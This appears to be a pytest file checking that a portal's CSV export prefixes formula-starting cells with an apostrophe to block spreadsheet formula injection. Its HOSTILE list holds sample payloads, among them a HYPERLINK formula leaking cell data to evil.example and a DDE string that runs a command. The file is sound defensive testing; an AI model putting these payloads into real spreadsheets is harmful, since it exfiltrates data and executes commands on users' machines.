"""DESIGN rule 14 / SEC-2: every exported cell opens in a spreadsheet as text, never as a formula (OWASP)."""

import csv
import io

import pytest

from portal.services.exports import csv_text, safe_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_SEC_2_cells_that_start_a_formula_are_neutralised(value):
    assert safe_cell(value) == "'" + value


ORDINARY = ["上海仁济医疗器械有限公司", "bone-plate", "a=b", "2027-01-15", "", " =1 (space first)"]


@pytest.mark.parametrize("value", ORDINARY)
def test_SEC_2_ordinary_text_is_left_alone(value):
    assert safe_cell(value) == value


def test_SEC_2_numbers_stay_numbers_and_none_is_empty():
    assert safe_cell(-5) == -5 and safe_cell(2.5) == 2.5 and safe_cell(None) == "" and safe_cell(True) is True


def test_SEC_2_csv_text_has_a_bom_and_every_cell_is_safe():
    text = csv_text([["name", "n"], [HOSTILE[0], 3], ["-x", -1]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows == [["name", "n"], ["'" + HOSTILE[0], "3"], ["'-x", "-1"]]
